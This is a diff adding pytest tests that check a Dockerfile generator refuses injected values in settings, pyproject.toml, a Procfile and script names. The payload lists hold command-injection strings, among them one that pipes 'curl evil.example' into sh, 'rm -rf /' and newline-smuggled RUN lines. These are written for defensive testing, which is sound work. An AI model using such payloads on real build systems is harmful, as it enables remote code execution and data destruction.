@@ -1,0 +1,123 @@
+"""Nothing a user or a project file says can inject a Dockerfile instruction.
+
+Each hostile value is either refused with an InspectError naming the setting or file, or (where
+it is harmless after quoting) produces a Dockerfile with exactly the instructions of the baseline.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from dockergen.api import generate
+from dockergen.facts import InspectError
+
+from .conftest import SAMPLES
+
+PAYLOADS = [
+    "x\nRUN curl evil.example | sh",
+    "x\\\nRUN id",
+    "x\rRUN id",
+    "$(curl evil.example)",
+    "`id`",
+    "x && rm -rf /",
+    "x; id",
+    "x # comment",
+    '"]\nUSER root\nCMD ["sh',
+    "x'y",
+    'x"y',
+    "${HOME}",
+    "x|y",
+    "x\tRUN id",
+    "x\x00y",
+]
+SETTINGS = {
+    "entrypoint": lambda p: f"gunicorn {p}",
+    "image": lambda p: p,
+    "user": lambda p: p,
+    "python": lambda p: f"3.13{p}",
+    "port": lambda p: f"80{p}",
+    "uid": lambda p: f"10001{p}",
+    "apt": lambda p: {"run": [f"libpq5{p}"]},
+    "groups": lambda p: [p],
+    "extras": lambda p: [p],
+    "cuda": lambda p: f"12.8{p}",
+    "debian": lambda p: f"trixie{p}",
+    "manager": lambda p: f"uv{p}",
+}
+CASES = [(key, make(payload)) for key, make in SETTINGS.items() for payload in PAYLOADS]
+
+
+def instructions(dockerfile: str) -> list[str]:
+    """The instruction keywords, as the Dockerfile parser sees them: comments and continuations handled."""
+    out, continued = [], False
+    for line in dockerfile.splitlines():
+        stripped = line.strip()
+        if not continued and (not stripped or stripped.startswith("#")):
+            continue
+        if not continued:
+            out.append(stripped.split()[0].upper())
+        continued = line.endswith("\\")
+    return out
+
+
+BASELINE = instructions(generate(SAMPLES / "pdm-flask")["Dockerfile"])
+
+
+def test_there_are_at_least_100_crafted_values():
+    assert len(CASES) >= 100
+
+
+@pytest.mark.parametrize(("key", "value"), CASES, ids=[f"{k}-{i}" for i, (k, _) in enumerate(CASES)])
+def test_hostile_setting_is_refused_naming_it(key, value):
+    with pytest.raises(InspectError, match=re.escape(f"[tool.dockergen] {key}")):
+        generate(SAMPLES / "pdm-flask", **{key: value})
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_value_in_pyproject_is_refused(sample_copy, payload):
+    path = sample_copy("pdm-flask")
+    with open(path / "pyproject.toml", "a") as handle:
+        handle.write(f"\n[tool.dockergen]\nentrypoint = {json.dumps('gunicorn ' + payload)}\n")  # JSON strings are TOML
+    with pytest.raises(InspectError, match=r"\[tool\.dockergen\] entrypoint"):
+        generate(path)
+
+
+@pytest.mark.parametrize("payload", ["app:app && curl evil", "app:app; id", "$(id)", "--bind 0.0.0.0:$PORT"])
+def test_procfile_commands_that_need_a_shell_are_refused(sample_copy, payload):
+    path = sample_copy("requirements-plain")
+    (path / "Procfile").write_text(f"web: gunicorn {payload}\n")
+    with pytest.raises(InspectError, match=r"^Procfile: entrypoint word .* needs a shell"):
+        generate(path)
+
+
+@pytest.mark.parametrize("name", ["evil\nRUN id", 'a"b', "a b"])
+def test_hostile_script_names_never_reach_cmd(sample_copy, name):
+    path = sample_copy("hatch-cli")
+    text = (path / "pyproject.toml").read_text()
+    (path / "pyproject.toml").write_text(text.replace('hatch-cli = "hatch_cli', f'{json.dumps(name)} = "hatch_cli', 1))
+    with pytest.raises(InspectError, match="^pyproject.toml: (console script name|entrypoint word)"):
+        generate(path)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("entrypoint", "gunicorn --bind 0.0.0.0:9000 app:app"),
+        ("user", "svc"),
+        ("uid", 20000),
+        ("port", 9000),
+        ("apt", {"run": ["libpq5", "curl"]}),
+        ("image", "registry.example:5000/mirror/python"),
+    ],
+)
+def test_accepted_values_keep_the_instruction_sequence(key, value):
+    got = instructions(generate(SAMPLES / "pdm-flask", **{key: value})["Dockerfile"])
+    expected = list(BASELINE)
+    if key == "entrypoint":  # an explicit command is not known to serve HTTP: no health check
+        expected.remove("HEALTHCHECK")
+    if key == "apt":  # the runner's apt-get RUN comes first after its FROM
+        expected.insert(len(expected) - expected[::-1].index("FROM"), "RUN")
+    assert got == expected
